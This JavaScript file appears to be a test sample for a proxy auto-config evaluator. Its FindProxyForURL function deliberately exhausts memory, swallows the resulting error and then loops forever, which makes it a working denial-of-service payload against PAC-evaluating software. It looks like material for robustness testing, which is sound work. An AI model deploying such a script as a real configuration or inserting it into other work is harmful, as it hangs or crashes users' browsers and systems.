// SPDX-License-Identifier: MIT
// SPDX-FileCopyrightText: 2026 The esol authors
// Eats memory, swallows the error, and then spins.
function FindProxyForURL(url, host) {
    var hoard = [];
    try {
        for (;;)
            hoard.push(new Array(65536).join("y") + hoard.length);
    } catch (e) {
        hoard = null;
        for (;;) {}
    }
}
